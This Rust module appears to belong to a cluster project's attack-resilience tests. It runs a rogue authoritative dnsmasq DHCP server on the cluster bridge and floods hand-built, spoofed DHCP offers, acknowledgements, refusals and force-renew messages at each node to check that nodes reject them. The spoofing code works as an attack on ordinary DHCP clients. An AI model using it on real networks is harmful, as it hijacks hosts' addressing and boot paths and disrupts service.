//! A DHCP server that is nobody's, on the cluster network.
//!
//! Firmware that boots by PXE takes whoever answers first: that cannot be held off, and the code by which a machine is let in is
//! all that stands behind it (`daemon/src/join.rs`). A node that runs has asked nobody for its addresses, which `cluster.toml`
//! names, and takes none.

use std::net::{Ipv4Addr, UdpSocket};
use std::path::Path;
use std::process::{Child, Command, Stdio};

use anyhow::{Context as _, Result, ensure};

use crate::rack::layout::{CLUSTER_BRIDGE, PDU_ADDRESS};

/// The ports of DHCP.
const SERVER: u16 = 67;
const CLIENT: u16 = 68;
/// How often each answer is sent that nobody has asked for.
const TIMES: u32 = 20;
/// What is said: an offer, an acknowledgement, a refusal, and the order to ask anew (RFC 2132, 9.6; RFC 3203).
const KINDS: [u8; 4] = [2, 5, 6, 9];
/// What marks DHCP's options (RFC 2131, 3).
const COOKIE: [u8; 4] = [99, 130, 83, 99];

/// dnsmasq as that server, until it is dropped.
#[derive(Debug)]
pub(super) struct Rogue(Child);

impl Rogue {
    /// Begins to answer whoever asks, and keeps in a file to whom it has given an address. It dies with the calling thread.
    pub(super) fn start(leases: &Path) -> Result<Self> {
        std::fs::write(leases, "")?;
        let mut command = Command::new("setpriv");
        command.args(["--pdeathsig", "KILL", "--", "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null"]);
        command.args([
            "--user=root",
            "--port=0",
            "--bind-interfaces",
            "--dhcp-authoritative",
            "--no-ping",
            "--pid-file",
        ]);
        command.args(["--log-facility=-", "--dhcp-range=10.77.0.100,10.77.0.199,2m"]);
        command.arg(format!("--interface={CLUSTER_BRIDGE}")).arg(format!("--dhcp-leasefile={}", leases.display()));
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        command.spawn().map(Self).context("cannot run dnsmasq (Debian's dnsmasq-base)")
    }

    /// It still runs: nothing has kept it from answering.
    pub(super) fn is_at_work(&mut self) -> Result<()> {
        let ended = self.0.try_wait()?;
        ensure!(ended.is_none(), "the DHCP server of the attack has ended: {ended:?}");
        Ok(())
    }
}

impl Drop for Rogue {
    fn drop(&mut self) {
        // Fails only for a process that has ended by itself.
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Answers that nobody has asked for, to everybody and to each of these machines: another address, and that all they have is void.
pub(super) fn unasked(cards: &[(String, Ipv4Addr)]) -> Result<()> {
    let socket = UdpSocket::bind((PDU_ADDRESS, 0))?;
    socket.set_broadcast(true)?;
    for (number, kind) in (0..TIMES).flat_map(|number| KINDS.map(|kind| (number, kind))) {
        for (at, (mac, address)) in (0_u8..).zip(cards) {
            let message = message(kind, number, mac, Ipv4Addr::new(10, 77, 0, 100 + at)).context("no such card")?;
            for to in [Ipv4Addr::BROADCAST, Ipv4Addr::new(10, 77, 0, 255), *address] {
                for port in [CLIENT, SERVER] {
                    socket.send_to(&message, (to, port))?;
                }
            }
        }
    }
    Ok(())
}

/// A server's message (RFC 2131, figure 1) of that kind for a card.
fn message(kind: u8, number: u32, mac: &str, address: Ipv4Addr) -> Option<Vec<u8>> {
    let card: Vec<u8> = mac.split(':').map(|byte| u8::from_str_radix(byte, 16).ok()).collect::<Option<_>>()?;
    let mut bytes = vec![2, 1, 6, 0];
    bytes.extend(number.to_be_bytes());
    bytes.extend([0; 8]);
    bytes.extend(address.octets());
    bytes.extend(PDU_ADDRESS.octets());
    bytes.extend([0; 4]);
    bytes.extend(card);
    bytes.resize(236, 0);
    bytes.extend(COOKIE);
    bytes.extend([53, 1, kind, 54, 4]);
    bytes.extend(PDU_ADDRESS.octets());
    bytes.extend([51, 4, 0, 0, 0, 120, 255]);
    Some(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_has_its_parts_where_they_belong() {
        let address = Ipv4Addr::new(10, 77, 0, 100);
        let message = message(5, 7, "52:54:00:77:00:11", address).expect("a card");
        assert_eq!(message.get(16..20), Some(&address.octets()[..]));
        assert_eq!(message.get(28..34), Some(&[0x52, 0x54, 0, 0x77, 0, 0x11][..]));
        assert_eq!(message.get(236..243), Some(&[99, 130, 83, 99, 53, 1, 5][..]));
        assert_eq!(super::message(5, 7, "52:5x", address), None);
    }
}
